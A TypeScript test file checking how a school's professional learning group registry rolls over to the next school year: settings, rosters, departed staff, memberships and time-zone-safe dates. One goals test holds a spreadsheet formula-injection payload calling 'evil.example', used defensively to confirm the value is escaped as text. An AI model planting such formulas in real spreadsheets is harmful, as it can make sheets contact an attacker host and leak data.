// What next year's registry holds, read back the way next year's PLG Hub will read it — as the admin who rolls
// the school forward, the teacher whose roster term ends on the very first day, the colleague who left in June,
// and schools in Sydney and Kolkata whose dates must not slide by a day.
import { planRollover, type RolloverPlan } from '../../../src/core/rollover/rollover-plan';
import { wallClock } from '../../../src/core/registry/cells';
import { readRegistry, type Registry } from '../../../src/core/registry/registry';
import { closuresTab, meetingsTab, attendanceTab } from '../../../src/core/registry/tabs';
import { expandSchedule } from '../../../src/core/schedule/expand-schedule';
import { weekdayOf } from '../../../src/core/schedule/calendar-days';
import { zonedInstant } from '../../../src/core/schedule/zoned-time';
import { email, schoolTabs, timeZone as fixtureZone } from '../registry/school-fixture';

const admin = email('ana.reyes');

type Tabs = Record<string, unknown[][]>;

/** This year's registry with the hidden columns a synced registry has, in `zone` (cells as getValues gives them). */
function thisYear(zone = fixtureZone, change: (tabs: Tabs) => void = () => {}): Tabs {
  const tabs = rezoned(schoolTabs(), zone);
  tabs.Groups![0]!.push('Agenda folder', 'Feedback form', 'PLG Hub key');
  tabs.Groups!.slice(1).forEach((row, i) => row.push(`folder-${i}`, `form-${i}`, String(row[0]).toUpperCase()));
  setSetting(tabs, 'Time zone', zone);
  setSetting(tabs, 'Calendar id', 'plg-calendar-2026');
  setSetting(tabs, 'Drive folder id', 'folder-2026');
  change(tabs);
  return tabs;
}

/** The same typed values as a spreadsheet in `zone` hands them over: each date and time at its wall clock there. */
function rezoned(tabs: Tabs, zone: string): Tabs {
  const move = (v: unknown) => {
    if (!(v instanceof Date)) return v;
    const { date, time } = wallClock(v, fixtureZone);
    return zonedInstant(date, time, zone);
  };
  return Object.fromEntries(Object.entries(tabs).map(([name, rows]) => [name, rows.map((r) => r.map(move))]));
}

function setSetting(tabs: Tabs, label: string, value: unknown): void {
  const row = tabs.Settings!.find((r) => r[0] === label);
  if (row) row[1] = value;
  else tabs.Settings!.push([label, value, '']);
}

function cellOf(tabs: Tabs, tab: string, id: string, header: string): unknown[] {
  const rows = tabs[tab]!;
  const column = rows[0]!.indexOf(header);
  const row = rows.find((r) => String(r[0]).trim().toUpperCase() === id.toUpperCase())!;
  return [row, column];
}

function set(tabs: Tabs, tab: string, id: string, header: string, value: unknown): void {
  const [row, column] = cellOf(tabs, tab, id, header) as [unknown[], number];
  row[column] = value;
}

function plan(tabs: Tabs, zone = fixtureZone, folderId?: string): RolloverPlan {
  const read = readRegistry(tabs, { cellTimeZone: zone });
  return planRollover({ registry: read.registry!, values: tabs, cellTimeZone: zone, admin, folderId });
}

/** Next year's tabs as Sheets would hand them back after they were written: an escape apostrophe taken away. */
function written(p: RolloverPlan): Tabs {
  const unescape = (v: unknown) => (typeof v === 'string' && v.startsWith("'") ? v.slice(1) : v);
  const tabs: Tabs = Object.fromEntries(
    p.tabs.map((t) => [t.name, [t.headers, ...t.rows.map((r) => r.map(unescape))]]),
  );
  for (const empty of [closuresTab, meetingsTab, attendanceTab])
    tabs[empty.name] = [Object.values(empty.columns).map((c) => c.header)];
  return tabs;
}

function nextRegistry(p: RolloverPlan, zone = fixtureZone): { registry: Registry; errors: string[] } {
  const read = readRegistry(written(p), { cellTimeZone: zone });
  const errors = read.problems.filter((x) => x.severity === 'error').map((x) => `${x.tab} ${x.row}: ${x.message}`);
  return { registry: read.registry!, errors };
}

describe('next school year’s registry', () => {
  it('rolls Settings forward: the year a year on, a calendar of its own, the new folder and the admin as owner', () => {
    const p = plan(thisYear(), fixtureZone, 'folder-2027');
    const { registry } = nextRegistry(p);
    expect(registry.settings).toMatchObject({
      school: 'Lincoln Middle School',
      yearStart: '2027-08-30',
      yearEnd: '2028-06-16',
      timeZone: 'America/New_York',
      domain: 'lincolnms.org',
      minMinutes: 50,
      groupSizeMin: 3,
      folderId: 'folder-2027',
      adminEmail: admin,
      calendarName: 'PLG meetings 2027–28',
    });
    // This year's calendar stays this year's: next year's first Apply makes its own.
    expect(registry.settings.calendarId).toBeUndefined();
    expect([p.thisYear.label, p.nextYear.label]).toEqual(['2026–27', '2027–28']);
  });

  it('leaves Closures empty, and starts Meetings and Attendance afresh', () => {
    const names = plan(thisYear()).tabs.map((t) => t.name);
    expect(names).toEqual(['Settings', 'Staff', 'Groups', 'Members', 'Goals', 'Protocols']);
  });

  it('carries a group whose roster term runs past next year’s first day, and flags one ending exactly on it', () => {
    const tabs = thisYear(fixtureZone, (t) => {
      set(t, 'Groups', 'MATH-6', 'Roster term end', '2027-08-30'); // next year's first day
      set(t, 'Groups', 'ADMIN', 'Roster term end', '2027-08-31'); // the day after
      set(t, 'Groups', 'FAC', 'Roster term end', ''); // no term set: the roster goes on
    });
    const p = plan(tabs);
    expect(p.carried.map((g) => g.id)).toEqual(['ELA-7', 'ADMIN', 'FAC']);
    expect(p.flagged).toEqual([{ id: 'MATH-6', name: 'Grade 6 Math', rosterTermEnd: '2027-08-30' }]);
    const { registry, errors } = nextRegistry(p);
    expect(errors).toEqual([]);
    const math = registry.groups.find((g) => g.row.id === 'MATH-6')!.row;
    // Not active until it is re-formed: nothing is scheduled or sent for it.
    expect(math.active).toBe(false);
    expect(math.rosterTermEnd).toBeUndefined();
    expect(expandSchedule(math, registry.settings, [])).toEqual([]);
    expect(p.flagNotes.get('MATH-6')).toMatch(
      /^Re-form: .*ended on 2027-08-30\. Re-form it for 2027–28 with the group builder/,
    );
    // Its members are not carried; the carried groups' are.
    expect(registry.members.filter((m) => m.row.group === 'MATH-6')).toEqual([]);
    expect(registry.members.filter((m) => m.row.group === 'ELA-7').map((m) => m.row.email)).toEqual([
      email('eve.moss'),
      email('finn.ward'),
      email('gia.russo'),
      email('tom.baker'),
    ]);
  });

  it('works out each carried group’s first meeting for next year, on its weekday, and keeps its PLG Hub key', () => {
    const p = plan(thisYear());
    const { registry } = nextRegistry(p);
    for (const { row } of registry.groups) {
      const meetings = expandSchedule(row, registry.settings, []);
      expect({ id: row.id, first: meetings[0]!.date >= '2027-08-30' }).toEqual({ id: row.id, first: true });
      expect(meetings.every((m) => weekdayOf(m.date) === row.weekday)).toBe(true);
      expect(row.key).toBe(row.id);
      // Next year's own agenda folder and feedback form are made by its own sync.
      expect([row.folder, row.feedbackForm]).toEqual([undefined, undefined]);
    }
    // MATH-6 first met on the year's second Tuesday (2026-09-08); next year's second Tuesday is 2027-09-07.
    expect(p.carried.find((g) => g.id === 'MATH-6')?.firstMeeting).toBe('2027-09-07');
  });

  it('leaves behind the colleague who left, their memberships and a facilitator’s cell they held', () => {
    const tabs = thisYear(fixtureZone, (t) => {
      set(t, 'Staff', email('cara.lin'), 'Active', 'No');
      set(t, 'Staff', email('raj.patel'), 'Active', 'No'); // ELA-7's facilitator, a FAC member
    });
    const p = plan(tabs);
    expect(p.departed.sort()).toEqual([email('cara.lin'), email('old.timer'), email('raj.patel')]);
    const { registry, errors } = nextRegistry(p);
    const staff = registry.staff.map((s) => s.row.email);
    for (const gone of p.departed) {
      expect(staff).not.toContain(gone);
      expect(registry.members.map((m) => m.row.email)).not.toContain(gone);
    }
    expect(registry.groups.find((g) => g.row.id === 'ELA-7')!.row.facilitator).toBeUndefined();
    expect(p.leadersLeft).toEqual([{ group: 'ELA-7', role: 'Facilitator', email: email('raj.patel') }]);
    // Without a facilitator, next year's Validate says so (a warning to act on, not a row that fails to read).
    expect(errors).toEqual([]);
  });

  it('carries a membership whose Until is next year’s first day, not one that ended before it', () => {
    const tabs = thisYear(fixtureZone, (t) => {
      const members = t.Members!;
      members.find((r) => r[1] === email('eve.moss'))![4] = '2027-08-30';
      members.find((r) => r[1] === email('finn.ward'))![4] = '2027-06-18';
      members.find((r) => r[1] === email('gia.russo'))![3] = '2027-10-01'; // joins next October
      members.find((r) => r[1] === email('ben.ortiz'))![5] = '2026-10-06'; // this year's date
    });
    const p = plan(tabs);
    expect(p.membershipsEnded).toBe(1);
    const { registry } = nextRegistry(p);
    const member = (who: string) => registry.members.find((m) => m.row.email === email(who))?.row;
    expect(member('eve.moss')?.until).toBe('2027-08-30');
    expect(member('finn.ward')).toBeUndefined();
    expect(member('gia.russo')?.from).toBe('2027-10-01');
    expect(member('ben.ortiz')?.unavailable).toEqual([]);
    // A renamed id's member row ("math-6 ") names the group as it is called now.
    expect(member('sam.cole')?.group).toBe('MATH-6');
  });

  it('copies goals and protocols as typed, a formula-looking goal staying text', () => {
    const tabs = thisYear(fixtureZone, (t) => {
      t.Goals!.push(['G3', '=IMPORTXML("http://evil.example","//a")']);
      t.Protocols = [
        ['Protocol id', 'Name', 'Purpose', 'Step', 'Minutes', 'Who', 'Prompt'],
        ['OURS', 'Our own', 'Look at work', 'Look', 20, 'everyone', 'What do you see?'],
      ];
    });
    const p = plan(tabs);
    const goals = p.tabs.find((t) => t.name === 'Goals')!;
    expect(goals.rows.at(-1)).toEqual(["'G3", `'=IMPORTXML("http://evil.example","//a")`]);
    expect(
      nextRegistry(p)
        .registry.goals.map((g) => g.row.goal)
        .at(-1),
    ).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(p.tabs.find((t) => t.name === 'Protocols')!.rows).toEqual([
      ["'OURS", "'Our own", "'Look at work", "'Look", 20, "'everyone", "'What do you see?"],
    ]);
  });

  it('gives a registry without a Protocols tab the built-in protocols', () => {
    const rows = plan(thisYear()).tabs.find((t) => t.name === 'Protocols')!.rows;
    expect(rows.length).toBeGreaterThan(60);
  });

  it('does not carry a row it cannot read, and names it', () => {
    const tabs = thisYear(fixtureZone, (t) => set(t, 'Groups', 'ADMIN', 'Weekday', 'Mondy'));
    const p = plan(tabs);
    expect(p.unreadable).toContain('Groups row 4');
    expect(p.carried.map((g) => g.id)).not.toContain('ADMIN');
  });
});

describe('a school in Sydney, whose school year is the calendar year', () => {
  const zone = 'Australia/Sydney';
  const sydney = () =>
    thisYear(zone, (t) => {
      setSetting(t, 'School year start', zonedInstant('2027-01-28', '00:00', zone));
      setSetting(t, 'School year end', zonedInstant('2027-12-17', '00:00', zone));
      set(t, 'Groups', 'MATH-6', 'First meeting', zonedInstant('2027-02-02', '00:00', zone));
      set(t, 'Groups', 'ADMIN', 'Roster term end', zonedInstant('2027-12-17', '00:00', zone));
    });

  it('calls next year "2028", not "2028–29", and rolls it to Thursday 27 January to Friday 15 December 2028', () => {
    const p = plan(sydney(), zone);
    expect([p.thisYear.label, p.nextYear.label]).toEqual(['2027', '2028']);
    const { registry } = nextRegistry(p, zone);
    expect([registry.settings.yearStart, registry.settings.yearEnd]).toEqual(['2028-01-27', '2028-12-15']);
    expect(registry.settings.calendarName).toBe('PLG meetings 2028');
    expect(p.flagNotes.get('ADMIN')).toMatch(/ended on 2027-12-17\. Re-form it for 2028 /);
  });

  it('starts the Tuesday group on the first Tuesday of February again', () => {
    expect(plan(sydney(), zone).carried.find((g) => g.id === 'MATH-6')?.firstMeeting).toBe('2028-02-01');
  });
});

describe('a school in Kolkata (+05:30, its time cells on local mean time)', () => {
  const zone = 'Asia/Kolkata';

  it('writes every date and time as the wall clock typed, none a day or a minute off', () => {
    const p = plan(thisYear(zone), zone);
    const groups = written(p).Groups!;
    const column = (h: string) => groups[0]!.indexOf(h);
    const math = groups.find((r) => r[0] === 'MATH-6')!;
    expect(math[column('Start time')]).toBe('15:30');
    expect(math[column('Roster term end')]).toBe('2028-06-16');
    expect(groups.find((r) => r[0] === 'ADMIN')![column('Start time')]).toBe('08:00');
    const staff = written(p).Staff!;
    expect(staff.find((r) => r[0] === email('jane.doe'))![staff[0]!.indexOf('Facilitator trained on')]).toBe(
      '2025-08-20',
    );
    const { registry, errors } = nextRegistry(p, zone);
    expect(errors).toEqual([]);
    expect(registry.groups.find((g) => g.row.id === 'MATH-6')!.row.startTime).toBe('15:30');
    expect(registry.settings.yearStart).toBe('2027-08-30');
  });
});
